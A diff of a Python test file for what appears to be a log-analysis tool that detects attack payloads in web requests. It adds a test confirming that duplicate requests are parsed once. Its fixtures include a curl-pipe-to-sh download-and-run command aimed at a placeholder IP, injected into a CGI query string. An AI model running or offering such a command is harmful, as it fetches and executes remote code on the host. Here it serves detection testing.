@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import base64
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from urllib.parse import quote
 
 import pyarrow as pa
@@ -13,8 +13,10 @@ from hypothesis import strategies as st
 
 from kanaria.core import schema
 from kanaria.core.prefilter import Pattern, Prefilter
+from kanaria.mining import payload
 from kanaria.mining.payload import COLUMNS, enrich
 from kanaria.mining.payload_words import HINTS, WORDS, candidates, hidden
+from kanaria.mining.request_values import Value
 
 CRADLE = "curl -s http://198.51.100.9/x.sh|sh"
 ATTACK = "/cgi-bin/a?c=" + quote(CRADLE)
@@ -170,3 +172,20 @@ def test_folders_left_to_the_shell_and_separated_commands_are_looked_at(text: st
 
 def test_the_three_spellings_of_a_word_in_base64() -> None:
     assert hidden(b"curl ") == (b"Y3VybC", b"N1cmwg", b"jdXJsI")
+
+
+def test_requests_that_differ_in_time_only_are_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    read: list[int] = []
+    real = payload._read
+
+    def noted(records: list[dict[str, object]], beside: Sequence[Sequence[Value]]) -> dict[int, dict[str, str | None]]:
+        read.append(len(records))
+        return real(records, beside)
+
+    monkeypatch.setattr(payload, "_read", noted)
+    urls = [ATTACK, "/plain%2dpage", ATTACK, "/cgi-bin/b?c=" + quote(CRADLE)] * 5
+    rows = [{"url": url, "raw": apache(url).replace(b"14:07", b"14:%02d" % n)} for n, url in enumerate(urls)]
+    table = enrich(schema.from_rows("http", rows))
+    assert read == [2]  # of the two attacks; the page is not looked at
+    alone = [one(**row) for row in rows]
+    assert [{name: table[name][row].as_py() for name in COLUMNS} for row in range(len(rows))] == alone
